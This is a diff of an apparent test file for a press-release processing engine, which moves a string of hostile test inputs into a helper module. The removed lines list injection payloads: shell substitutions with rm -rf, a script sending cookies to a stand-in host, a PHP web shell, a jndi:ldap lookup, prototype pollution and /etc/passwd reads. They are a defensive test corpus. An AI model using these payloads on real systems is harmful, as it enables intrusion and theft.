@@ -6,24 +6,10 @@ import { strict as assert } from "node:assert";
 import { existsSync, readFileSync } from "node:fs";
 import * as path from "node:path";
 import { createRequire } from "node:module";
+import { HOSTILE } from "../helpers/safetyTrap";
 
 const ROOT = path.resolve(__dirname, "../..");
 const ENGINE = path.join(ROOT, "server/out/engine.js");
-const MARK = "pra-safety-marker";
-
-export const HOSTILE = [
-  "FOR IMMEDIATE RELEASE",
-  `Acme Launches $(rm -rf /tmp/${MARK}) and \`touch /tmp/${MARK}\` Today`,
-  `NEW YORK, Feb. 6, 2026 /PRNewswire/ -- Acme Corp today announced <script>fetch("https://${MARK}.invalid/steal?c="+document.cookie)</script> a product.`,
-  `"It is the best ever," said Jane Doe, CEO. <img src=x onerror="fetch('http://${MARK}.invalid')"> {{constructor.constructor('return process')().exit(1)}} \${process.exit(1)}`,
-  `According to https://${MARK}.invalid/report and file:///etc/passwd and file:///tmp/${MARK}/secret.txt, the market will reach $50 billion by 2030.`,
-  `Experts say require('child_process').execSync('touch /tmp/${MARK}') and eval("process.exit(2)") and new Function("return 1")() and Function("return 2")() are common.`,
-  `Visit <https://${MARK}.invalid/a>, [our site](http://${MARK}.invalid/b), ![logo](ftp://${MARK}.invalid/c.png), javascript:alert(1), data:text/html;base64,PHNjcmlwdD4=`,
-  `<!--#exec cmd="ls /" --> <?php system($_GET['c']); ?> %{(#_='multipart/form-data')} \${jndi:ldap://${MARK}.invalid/a}`,
-  `{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}} __proto__ polluted constructor prototype`,
-  `Contact: press@${MARK}.invalid, +1 (555) 010-0000, \\\\${MARK}\\share\\file, smb://${MARK}.invalid/x`,
-  "\u202Eevil\u202C \u0000 \uFEFF ### -30- SOURCE Acme Corp",
-].join("\n\n");
 
 type Restore = () => void;
 
